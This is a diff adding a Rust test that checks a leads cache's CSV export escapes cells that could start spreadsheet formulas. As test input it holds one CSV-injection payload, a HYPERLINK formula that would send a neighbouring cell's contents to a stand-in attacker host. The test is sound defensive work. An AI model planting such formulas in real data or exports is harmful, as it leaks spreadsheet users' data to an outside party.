@@ -493,6 +493,28 @@ fn people_filter_sort_and_export() {
     );
 }
 
+#[test]
+fn the_people_csv_never_starts_a_formula() {
+    let (_dir, cache) = leads_cache();
+    // A visitor typed a formula as their name in a web form.
+    let name = r#"=HYPERLINK("https://evil.example/?"&A2,"x")"#;
+    write(
+        &cache,
+        SyncMode::Incremental,
+        &[lead("1", Some("a@example.com"), Some("+15125550142"), name)],
+    );
+    let mut csv = Vec::new();
+    cache.people_csv(&PeopleQuery::default(), &mut csv).unwrap();
+    let mut rows = csv::Reader::from_reader(csv.as_slice());
+    let row = rows.records().next().unwrap().unwrap();
+    assert_eq!(&row[0], format!("'{name}"), "the formula is text");
+    assert_eq!(&row[1], "a@example.com", "other cells are unchanged");
+    assert_eq!(
+        &row[2], "'+15125550142",
+        "a leading + could start a formula too"
+    );
+}
+
 /// A person's figures as the People table defines them, straight from their records: the
 /// per-person subqueries resolution ran before it settled a page's persons in batches, kept
 /// here as the rule the stored figures must follow.
